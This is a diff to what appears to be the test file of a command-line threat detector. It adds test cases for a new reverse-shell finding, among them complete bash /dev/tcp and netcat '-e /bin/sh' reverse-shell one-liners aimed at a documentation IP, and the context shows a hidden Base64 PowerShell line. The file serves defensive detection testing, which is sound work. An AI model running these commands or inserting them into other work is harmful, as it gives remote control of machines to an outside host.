@@ -16,6 +16,7 @@ def found(line: str, parent: Parent = SHELL) -> dict[str, str]:
     return dict(report.findings)
 
 
+REVERSE = "parent_reverse_shell"
 FETCHED = "parent_script_fetched"
 HIDDEN = "parent_hidden_encoded"
 PLACE = "parent_script_place"
@@ -36,6 +37,17 @@ TOOL = "parent_fake_tool"
         ("bash -c curl -o a.sh https://h.example/a.sh; less a.sh", []),
         ("bash -c curl -s https://h.example/a.json | jq .x", []),
         ("bash -c curl -s https://h.example/a | shasum", []),
+        # a shell for another host
+        ("perl -e use Socket;$i='198.51.100.4';socket(S,PF_INET,SOCK_STREAM,6)", [REVERSE]),
+        ("python3 -c 'import socket,os,pty;s=socket.socket()'", [REVERSE]),
+        ("/usr/bin/php8.1 -r '$s=fsockopen(1);socket_connect($s)'", [REVERSE]),
+        ("bash -c bash -i >& /dev/tcp/198.51.100.4/443 0>&1", [REVERSE]),
+        ("nc 198.51.100.4 443 -e /bin/sh", [REVERSE]),
+        ("nc.exe -e cmd.exe 198.51.100.4 443", [REVERSE]),
+        ("python3 /srv/app/socket_server.py", []),
+        ("perl -e print(1)", []),
+        ("bash -c exec 3<>/dev/tcp/db/5432", []),
+        ("nc -z db 5432", []),
         # without a window, in Base64
         ("powershell -nop -w hidden -enc SQBFAFgA", [HIDDEN]),
         ("powershell.exe -WindowStyle Hidden -EncodedCommand SQBFAFgAIAA=", [HIDDEN]),
